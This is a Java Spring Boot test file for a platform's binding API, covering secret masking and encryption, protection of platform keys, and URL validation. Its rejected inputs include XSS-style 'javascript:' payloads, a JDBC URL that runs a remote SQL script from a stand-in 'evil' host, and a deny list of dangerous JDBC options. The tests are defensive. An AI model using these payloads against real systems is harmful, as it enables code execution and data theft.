package io.platform.environment;

import io.platform.support.FreshPlatformHome;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ContextConfiguration;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** Bindings: secrets encrypted at rest and masked in answers, overrides per service, keys validated. */
@SpringBootTest(properties = "platform.runtime=process")
@AutoConfigureMockMvc
@ContextConfiguration(initializers = FreshPlatformHome.class)
class BindingControllerTest {

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	BindingService bindings;

	@Test
	void secretsAreEncryptedAtRestMaskedInAnswersAndGivenPlainToTheService() throws Exception {
		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
			.content("{\"name\":\"billing\",\"repoUrl\":\"file:///srv/git/billing.git\"}")).andExpect(status().isCreated());
		mvc.perform(put("/api/environments/test/bindings/DB_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"jdbc:mysql://db.test:3306/app\",\"secret\":false}")).andExpect(status().isOk());
		mvc.perform(put("/api/environments/test/bindings/DB_PASSWORD").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"hunter2-secret\",\"secret\":true}"))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.value").value("******"));

		mvc.perform(get("/api/environments/test/bindings"))
			.andExpect(jsonPath("$[0].key").value("DB_PASSWORD"))
			.andExpect(jsonPath("$[0].value").value("******"))
			.andExpect(jsonPath("$[1].value").value("jdbc:mysql://db.test:3306/app"))
			.andExpect(content().string(org.hamcrest.Matchers.not(containsString("hunter2"))));
		String stored = jdbc.queryForObject("SELECT value_text FROM binding WHERE binding_key = 'DB_PASSWORD'", String.class);
		assertThat(stored).doesNotContain("hunter2").startsWith("v1:");

		mvc.perform(put("/api/apps/billing/bindings/test/DB_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"jdbc:mysql://billing-db.test:3306/billing\",\"secret\":false}")).andExpect(status().isOk());
		mvc.perform(get("/api/apps/billing/bindings/test"))
			.andExpect(jsonPath("$[?(@.key == 'DB_URL')].source").value("service"))
			.andExpect(jsonPath("$[?(@.key == 'DB_URL')].value").value("jdbc:mysql://billing-db.test:3306/billing"))
			.andExpect(jsonPath("$[?(@.key == 'DB_PASSWORD')].value").value("******"));
		assertThat(bindings.effective("billing", "test").get("DB_PASSWORD").value()).isEqualTo("hunter2-secret");
		assertThat(bindings.masker("billing", "test").apply("connecting with hunter2-secret")).isEqualTo("connecting with ******");
		assertThat(bindings.keys("test")).containsExactly("DB_PASSWORD", "DB_URL");

		mvc.perform(delete("/api/apps/billing/bindings/test/DB_URL")).andExpect(status().isNoContent());
		mvc.perform(delete("/api/apps/billing/bindings/test/DB_URL")).andExpect(status().isNotFound());
	}

	@Test
	void bindingsShownAsLinksTakeHttpUrlsOnly() throws Exception {
		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
			.content("{\"name\":\"linked\",\"repoUrl\":\"https://git.example.com/linked.git\"}")).andExpect(status().isCreated());
		for (String value : new String[] { "javascript:alert(document.cookie)", " JavaScript:alert(1)", "data:text/html,x",
				"vbscript:msgbox(1)", "kibana.example.com", "https:///no-host" }) {
			for (String key : new String[] { "KIBANA_URL", "SKYWALKING_UI_URL" }) {
				String body = "{\"value\":\"" + value + "\",\"secret\":false}";
				mvc.perform(put("/api/environments/dev/bindings/{key}", key).contentType(MediaType.APPLICATION_JSON).content(body))
					.andExpect(status().isBadRequest())
					.andExpect(jsonPath("$.detail").value(containsString(key + " is shown as a link")))
					.andExpect(jsonPath("$.detail").value(containsString("http:// or https://")));
				mvc.perform(put("/api/apps/linked/bindings/dev/{key}", key).contentType(MediaType.APPLICATION_JSON).content(body))
					.andExpect(status().isBadRequest());
			}
		}
		assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM binding WHERE binding_key IN ('KIBANA_URL', 'SKYWALKING_UI_URL')",
				Integer.class)).isZero();
		mvc.perform(put("/api/environments/dev/bindings/KIBANA_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"https://kibana.dev.example.com:5601\",\"secret\":false}")).andExpect(status().isOk());
		mvc.perform(put("/api/apps/linked/bindings/dev/SKYWALKING_UI_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"http://skywalking.dev.internal\",\"secret\":false}")).andExpect(status().isOk());
		mvc.perform(delete("/api/environments/dev/bindings/KIBANA_URL")).andExpect(status().isNoContent());
		// Other keys keep whatever value they had.
		mvc.perform(put("/api/environments/dev/bindings/SOME_SCRIPT").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"javascript:anything\",\"secret\":false}")).andExpect(status().isOk());
		mvc.perform(delete("/api/environments/dev/bindings/SOME_SCRIPT")).andExpect(status().isNoContent());
	}

	@Test
	void aServiceCannotOverrideThePlatformsOwnKeys() throws Exception {
		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
			.content("{\"name\":\"sneaky\",\"repoUrl\":\"https://git.example.com/sneaky.git\"}")).andExpect(status().isCreated());
		mvc.perform(put("/api/environments/pre/bindings/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"jdbc:mariadb://db.test:3306/\",\"secret\":false}")).andExpect(status().isOk());
		mvc.perform(put("/api/apps/sneaky/bindings/pre/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\",\"secret\":false}"))
			.andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.detail", containsString("platform's own keys")));
		// A row an older version let in is not taken either.
		jdbc.update("INSERT INTO binding (env, app, binding_key, value_text, secret, updated_at) VALUES "
				+ "('pre', 'sneaky', 'PLATFORM_MYSQL_ADMIN_URL', 'jdbc:h2:mem:evil', FALSE, CURRENT_TIMESTAMP)");
		org.assertj.core.api.Assertions.assertThat(bindings.effective("sneaky", "pre").get("PLATFORM_MYSQL_ADMIN_URL").value())
			.isEqualTo("jdbc:mariadb://db.test:3306/");
	}

	@Test
	void theProvisionersAdminUrlMustBeAPlainMySqlUrlAndARefusedOneChangesNothing() throws Exception {
		// An environment of its own: the others' binding lists are counted by other tests.
		mvc.perform(post("/api/environments").contentType(MediaType.APPLICATION_JSON).content("{\"name\":\"urlcheck\"}"))
			.andExpect(status().isCreated());
		String good = "jdbc:mysql://db.pre:3306/?useSSL=true";
		mvc.perform(put("/api/environments/urlcheck/bindings/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"" + good + "\",\"secret\":false}")).andExpect(status().isOk());
		for (String[] refused : new String[][] {
				{ "jdbc:mysql://db.pre:3306/?allowLoadLocalInfile=true", "must not set option 'allowLoadLocalInfile'" },
				{ "jdbc:mariadb://db.pre:3306/?allowLocalInfile=true", "must not set option 'allowLocalInfile'" },
				{ "jdbc:mysql://db.pre/?autoDeserialize=true", "must not set option 'autoDeserialize'" },
				{ "jdbc:mysql://db.pre/?socketFactory=x.Y", "must not set option 'socketFactory'" },
				{ "jdbc:mariadb://db.pre/?permitMysqlScheme", "must not set option 'permitMysqlScheme'" },
				{ "jdbc:mysql://(host=db.pre,allowLoadLocalInfile=true)/", "must be jdbc:mysql://host" },
				{ "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "must be a MySQL or MariaDB URL" } }) {
			mvc.perform(put("/api/environments/urlcheck/bindings/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
				.content("{\"value\":\"" + refused[0] + "\",\"secret\":true}"))
				.andExpect(status().isBadRequest())
				.andExpect(jsonPath("$.errors[0].field").value("value"))
				.andExpect(jsonPath("$.detail", containsString("PLATFORM_MYSQL_ADMIN_URL " + refused[1])));
		}
		mvc.perform(get("/api/environments/urlcheck/bindings"))
			.andExpect(jsonPath("$[?(@.key == 'PLATFORM_MYSQL_ADMIN_URL')].value").value(good))
			.andExpect(jsonPath("$[?(@.key == 'PLATFORM_MYSQL_ADMIN_URL')].secret").value(false));
	}

	@Test
	void anUpdateThatLeavesOutSecretKeepsASecretSecret() throws Exception {
		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
			.content("{\"name\":\"keeper\",\"repoUrl\":\"https://git.example.com/keeper.git\"}")).andExpect(status().isCreated());
		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_TOKEN").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"first-s3cret\",\"secret\":true}")).andExpect(status().isOk());

		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_TOKEN").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"second-s3cret\"}"))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.secret").value(true))
			.andExpect(jsonPath("$.value").value("******"));
		mvc.perform(get("/api/apps/keeper/bindings/dev"))
			.andExpect(jsonPath("$[?(@.key == 'KEEPER_TOKEN')].value").value("******"))
			.andExpect(content().string(org.hamcrest.Matchers.not(containsString("second-s3cret"))));
		assertThat(jdbc.queryForObject("SELECT value_text FROM binding WHERE binding_key = 'KEEPER_TOKEN'", String.class))
			.startsWith("v1:");
		assertThat(bindings.effective("keeper", "dev").get("KEEPER_TOKEN").value()).isEqualTo("second-s3cret");

		// A new binding without the flag is not secret; the value is required.
		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_MODE").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"fast\"}")).andExpect(status().isOk()).andExpect(jsonPath("$.secret").value(false));
		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_MODE").contentType(MediaType.APPLICATION_JSON)
			.content("{\"secret\":true}"))
			.andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("value"));
		mvc.perform(get("/api/apps/keeper/bindings/dev")).andExpect(jsonPath("$[?(@.key == 'KEEPER_MODE')].value").value("fast"));
	}

	@Test
	void aServiceCannotSetThePlatformsKeysInAnyCase() throws Exception {
		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
			.content("{\"name\":\"casey\",\"repoUrl\":\"https://git.example.com/casey.git\"}")).andExpect(status().isCreated());
		for (String key : new String[] { "PLATFORM_MYSQL_ADMIN_URL", "platform_mysql_admin_url", "Platform_Env" }) {
			mvc.perform(put("/api/apps/casey/bindings/dev/" + key).contentType(MediaType.APPLICATION_JSON)
				.content("{\"value\":\"jdbc:mysql://db.dev/\",\"secret\":false}"))
				.andExpect(status().isBadRequest())
				.andExpect(jsonPath("$.detail", containsString("platform's own keys")));
		}
		mvc.perform(get("/api/apps/casey/bindings/dev"))
			.andExpect(jsonPath("$[?(@.source == 'service')]").isEmpty());
	}

	@Test
	void keysMustBeEnvironmentVariableNamesAndTheEnvironmentMustExist() throws Exception {
		mvc.perform(put("/api/environments/dev/bindings/1BAD-KEY").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"x\",\"secret\":false}"))
			.andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("key"))
			.andExpect(jsonPath("$.detail", containsString("not an environment variable name")));
		mvc.perform(put("/api/environments/staging/bindings/OK").contentType(MediaType.APPLICATION_JSON)
			.content("{\"value\":\"x\",\"secret\":false}")).andExpect(status().isNotFound());
		mvc.perform(put("/api/environments/dev/bindings/OK").contentType(MediaType.APPLICATION_JSON).content("{\"secret\":true}"))
			.andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("value"));
		mvc.perform(get("/api/environments/dev/bindings")).andExpect(jsonPath("$", org.hamcrest.Matchers.hasSize(0)));
	}

}
